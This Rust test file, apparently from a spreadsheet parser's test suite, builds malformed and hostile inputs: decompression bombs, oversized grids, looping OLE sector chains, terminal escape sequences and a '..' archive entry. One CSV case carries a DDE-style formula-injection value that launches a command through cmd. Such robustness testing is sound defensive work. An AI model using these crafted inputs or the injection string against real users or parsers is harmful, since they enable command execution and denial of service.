            ods(&table(&ods_row(
                "",
                r#"table:number-columns-spanned="4294967295" table:number-rows-spanned="4294967295""#,
                "answer",
            ))),
            Read(A1, &[]),
        ),
        (
            "spaces that are a bomb",
            ods(&format!("{}{}", table(&ordinary), " ".repeat(12 << 20))),
            Refused(&["limit-ratio"]),
        ),
        (
            "no mimetype",
            raw_zip(&[Entry::new(
                "content.xml",
                format!("<office:document-content>{}</office:document-content>", table(&ordinary)).as_bytes(),
            )]),
            Read(A1, &[]),
        ),
    ] {
        cases.add(&format!("ods, {name}.ods"), bytes, expect);
    }
}

fn old(cases: &mut Cases) {
    let good = [dimensions(1, 1), label(0, 0, "answer")].concat();
    let whole = xls(&[], &good);
    let changed = |at: usize, bytes: &[u8]| {
        let mut file = whole.clone();
        file[at..at + bytes.len()].copy_from_slice(bytes);
        file
    };
    let with = |cells: &[u8]| xls(&[], &[&good[..], cells].concat());
    for (name, bytes, expect) in [
        ("ordinary", whole.clone(), Read(A1, &[])),
        ("password", xls(&record(0x2F, &[1, 0, 1, 0]), &good), Refused(&["password"])),
        ("xor password", xls(&record(0x2F, &[0, 0, 0x12, 0x34, 0x56, 0x78]), &good), Refused(&["password"])),
        (
            "four billion rows",
            xls(&[], &[dimensions(u32::MAX, 200), label(0, 0, "answer")].concat()),
            Refused(&["limit-grid"]),
        ),
        (
            "cells far apart",
            xls(&[], &[label(0, 0, "answer"), label(65_535, 255, "x")].concat()),
            Refused(&["limit-grid"]),
        ),
        ("a record that leaves the stream", with(&[4, 2, 0xFF, 0xFF, 0, 0]), Refused(&["damaged", "cut-off"])),
        ("a cell cut off", with(&record(0x0204, &[1])), Refused(&["damaged"])),
        (
            "a text longer than its record",
            with(&record(0x0204, &[1, 0, 0, 0, 0, 0, 0xFF, 0xFF, 0])),
            Refused(&["damaged"]),
        ),
        ("size record of three bytes", with(&record(0x0200, &[0, 0, 0])), Refused(&["damaged"])),
        (
            "a sheet that does not end",
            {
                let mut cells = good.clone();
                cells.extend(record(0x0809, &[0, 6, 0x10, 0, 0, 0, 0, 0]));
                xls(&[], &cells)
            },
            Refused(&["cut-off"]),
        ),
        ("no beginning", ole("Workbook", &record(0x0A, &[]), &[]), Refused(&["damaged"])),
        ("empty stream", ole("Workbook", &[], &[]), Refused(&["damaged"])),
        (
            "stream of noise",
            ole(
                "Workbook",
                &(0..8_000u32).map(|n| (n.wrapping_mul(2_654_435_761) >> 24) as u8).collect::<Vec<_>>(),
                &[],
            ),
            Refused(&["damaged"]),
        ),
        ("locked package", ole("EncryptedPackage", b"x", &["EncryptionInfo"]), Refused(&["password"])),
        ("a document", ole("WordDocument", b"x", &[]), Refused(&["is-document"])),
        ("slides", ole("PowerPoint Document", b"x", &[]), Refused(&["is-slides"])),
        ("a mail", ole("__properties_version1.0", b"x", &[]), Refused(&["not-a-spreadsheet"])),
        ("sector table of itself", changed(512, &[0, 0, 0, 0]), Read(A1, &[])),
        ("directory that loops", changed(516, &1u32.to_le_bytes()), Refused(&["damaged"])),
        ("stream that loops", changed(512 + 8, &2u32.to_le_bytes()), Refused(&["damaged", "cut-off"])),
        ("sector list of itself", changed(68, &0u32.to_le_bytes()), Read(A1, &[])),
        ("sectors of four gigabytes", changed(30, &[31, 0]), Refused(&["cut-off"])),
        ("stream of four gigabytes", changed(1024 + 128 + 120, &u32::MAX.to_le_bytes()), Read(A1, &[])),
        (
            "stream outside the file",
            changed(1024 + 128 + 116, &0x00FF_FFF0u32.to_le_bytes()),
            Refused(&["damaged", "cut-off"]),
        ),
        ("cut to the head", whole[..512].to_vec(), Refused(&["cut-off"])),
        ("cut in the directory", whole[..1100].to_vec(), Refused(&["cut-off", "damaged", "not-a-spreadsheet"])),
        ("only the mark", whole[..8].to_vec(), Refused(&["cut-off"])),
        ("a million sector tables", changed(44, &1_000_000u32.to_le_bytes()), Read(A1, &[])),
        (
            "sst of four billion",
            xls(&record(0x00FC, &[0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF]), &good),
            Read(A1, &[]),
        ),
        (
            "sheet that begins outside",
            {
                let mut file = whole.clone();
                let at = file.windows(2).position(|w| w == b"S1").unwrap();
                file[at - 8..at - 4].fill(0x7F);
                file
            },
            Refused(&["damaged", "no-sheets"]),
        ),
    ] {
        cases.add(&format!("xls, {name}.xls"), bytes, expect);
    }
}

fn binary(cases: &mut Cases) {
    let rels = relations(&[("r1", "worksheet", "worksheets/sheet1.bin")]);
    let made = |workbook: &[u8], sheet: &[u8]| {
        raw_zip(&[
            Entry::new("_rels/.rels", relations(&[("r1", "officeDocument", "xl/workbook.bin")]).as_bytes()),
            Entry::new("xl/workbook.bin", workbook),
            Entry::new("xl/_rels/workbook.bin.rels", rels.as_bytes()),
            Entry::new("xl/worksheets/sheet1.bin", sheet),
        ])
    };
    let wide = |text: &str| -> Vec<u8> {
        [
            &(text.encode_utf16().count() as u32).to_le_bytes()[..],
            &text.encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<_>>(),
        ]
        .concat()
    };
    let bundle: Vec<u8> = [&[0u8; 4][..], &1u32.to_le_bytes(), &wide("r1"), &wide("S1")].concat();
    let workbook =
        [&[0x83, 0x01, 0, 0x8F, 0x01, 0, 0x9C, 0x01, bundle.len() as u8][..], &bundle, &[0x90, 0x01, 0, 0x84, 0x01, 0]]
            .concat();
    for (name, bytes, expect) in [
        ("workbook of noise", made(&[0xFF; 400], &[]), Refused(&["damaged"])),
        ("workbook empty", made(&[], &[]), Refused(&["damaged", "no-sheets"])),
        ("a record that leaves the sheet", made(&workbook, &[0x00, 0xFF, 0xFF, 0xFF, 0x7F, 1]), Refused(&["damaged"])),
        ("a size of five bytes", made(&workbook, &[0x00, 0x80, 0x80, 0x80, 0x80, 0x80]), Refused(&["damaged"])),
        ("a sheet of zeros", made(&workbook, &[0; 300]), Read(&[], &[])),
        ("a sheet that is xml", made(&workbook, sheet(ROW).as_bytes()), Refused(&["damaged"])),
        ("a sheet cut", made(&workbook, &[0x81, 0x01]), Refused(&["damaged"])),
    ] {
        cases.add(&format!("xlsb, {name}.xlsb"), bytes, expect);
    }
}

fn texts(cases: &mut Cases) {
    let sjis = [b"No,".to_vec(), vec![0x89, 0xF1, 0x93, 0x9A], b"\r\n1,answer\r\n".to_vec()].concat();
    for (name, bytes, expect) in [
        ("zeros inside", b"a,b\n1,\0\0x\n".to_vec(), Refused(&["not-a-spreadsheet"])),
        ("one zero in much text", [&b"answer,\0\n"[..], &b"1,2,3,4,5,6\n".repeat(200)].concat(), Read(&[("=", "A1", "answer")], &[])),
        ("a cell of ten megabytes", [&b"answer,"[..], &b"x".repeat(10 << 20)].concat(), whole("=", "x".repeat(10 << 20))),
        ("a million columns", [&b"answer"[..], &b",1".repeat(1_000_000)].concat(), Refused(&["limit-cells", "limit-notes"])),
        ("a million empty columns", [&b"answer"[..], &b",".repeat(1_000_000)].concat(), Read(&[("=", "A1", "answer")], &[])),
        ("two million rows", [&b"answer\n"[..], &b"1\n".repeat(2_000_000)].concat(), Refused(&["limit-cells"])),
        ("quote never closed", [&b"answer,\"open\n"[..], &b"a,b\n".repeat(1_000)].concat(), Read(&[("=", "A1", "answer")], &["open-quote"])),
        ("quotes only", b"\"".repeat(10_000), Read(&[], &[])),
        ("cp932", sjis, Read(&[("=", "B1", "回答"), ("=", "B2", "answer")], &["encoding"])),
        ("utf-16 with a mark", [0xFEFF].into_iter().chain("answer\t回答\n".encode_utf16()).flat_map(u16::to_le_bytes).collect(), Read(&[("=", "A1", "answer"), ("=", "B1", "回答")], &["encoding"])),
        ("utf-16 cut in a letter", [0xFEFF].into_iter().chain("answer,回\n".encode_utf16()).flat_map(u16::to_le_bytes).chain([0x30]).collect(), Read(&[("=", "A1", "answer")], &["undecodable"])),
        ("no encoding at all", [&b"answer,"[..], &[0xFF, 0xFE, 0xFD, 0x80, 0x81], b"\n"].concat(), Read(&[("=", "A1", "answer")], &["undecodable"])),
        ("mixed encodings", ["answer,回答,".as_bytes(), &[0x89, 0xF1, 0x93, 0x9A], b"\n"].concat(), Read(&[("=", "A1", "answer")], &["undecodable"])),
        ("commands", b"answer,=cmd|' /C calc'!A0,@SUM(1),+1,-1\n".to_vec(), Read(&[("=", "A1", "answer"), ("=", "B1", "=cmd|' /C calc'!A0")], &[])),
        ("escape sequences", b"answer,\x1b]0;title\x07\x1b[2J,x\n1,2,3\n4,5,6\n7,8,9\n0,1,2\n3,4,5\n6,7,8\n9,0,1\n2,3,4\n5,6,7\n8,9,0\n1,2,3\n4,5,6\n7,8,9\n1,2,3\n4,5,6\n".to_vec(), Read(&[("=", "A1", "answer")], &[])),
        ("old line ends", b"answer\rsecond\rthird\r".to_vec(), Read(&[("=", "A1", "answer"), ("=", "A3", "third")], &[])),
        ("ragged", b"answer,1\n1,2,3,4\n5\n".to_vec(), Read(&[("=", "A1", "answer")], &["ragged"])),
        ("mark alone", b"\xEF\xBB\xBF".to_vec(), Read(&[], &[])),
        ("lines alone", b"\n".repeat(100_000), Read(&[], &[])),
        ("separator line", b"sep=;\nanswer;2\n".to_vec(), Read(&[("=", "A1", "answer"), ("=", "B1", "2")], &[])),
    ] {
        cases.add(&format!("csv, {name}.csv"), bytes, expect);
    }
}

fn others(cases: &mut Cases) {
    let inner = xlsx(ROW);
    let archive = |entries: &[Entry]| raw_zip(entries);
    for (name, bytes, expect) in [
        ("empty.xlsx", Vec::new(), Refused(&["file-empty"])),
        ("zeros.xlsx", vec![0; 4096], Refused(&["file-empty"])),
        ("a pdf.xlsx", b"%PDF-1.7\n".to_vec(), Refused(&["is-pdf"])),
        ("a picture.xlsx", b"\x89PNG\r\n\x1A\n\0\0".to_vec(), Refused(&["is-picture"])),
        ("a web page.xls", b"<html><table><tr><td>1</td></tr></table></html>".to_vec(), Refused(&["is-html"])),
        ("a program.xlsx", b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xFF\xFF\0\0".to_vec(), Refused(&["not-a-spreadsheet"])),
        ("a shortcut.xlsx", b"\x4C\0\0\0\x01\x14\x02\0\0\0\0\0".to_vec(), Refused(&["not-a-spreadsheet"])),
        ("a packed file.xlsx", b"\x1F\x8B\x08\0\0\0\0\0".to_vec(), Refused(&["is-archive"])),
        ("an archive of nothing.zip", archive(&[Entry::new("~$x.xlsx", b"x")]), Refused(&["is-archive"])),
        ("a file without a name in an archive.zip", archive(&[Entry::new("..", &inner)]), Read(A1, &[])),
        ("xlsx called ods.ods", inner.clone(), Read(A1, &["wrong-extension"])),
        ("xlsx called csv.csv", inner.clone(), Read(A1, &["wrong-extension"])),
        ("too large.xlsx", vec![b'x'; (20 << 20) + 1], Refused(&["limit-file-size"])),
        ("numbers.xlsx", archive(&[Entry::new("Index/Document.iwa", b"x")]), Refused(&["is-numbers"])),
        (
            "a document.xlsx",
            archive(&[Entry::new("[Content_Types].xml", b"<Types/>"), Entry::new("word/document.xml", b"<x/>")]),
            Refused(&["is-document"]),
        ),
        (
            "slides.xlsx",
            archive(&[Entry::new("[Content_Types].xml", b"<Types/>"), Entry::new("ppt/presentation.xml", b"<x/>")]),
            Refused(&["is-slides"]),
        ),
        (
            "flat xml.xls",
            b"<?xml version=\"1.0\"?><?mso-application progid=\"Excel.Sheet\"?><Workbook/>".to_vec(),
            Refused(&["is-xml-sheet"]),
        ),
        ("excel 2.xls", b"\x09\x00\x04\x00\x02\x00\x10\x00".to_vec(), Refused(&["is-old-excel"])),
    ] {
        cases.add(name, bytes, expect);
    }
}
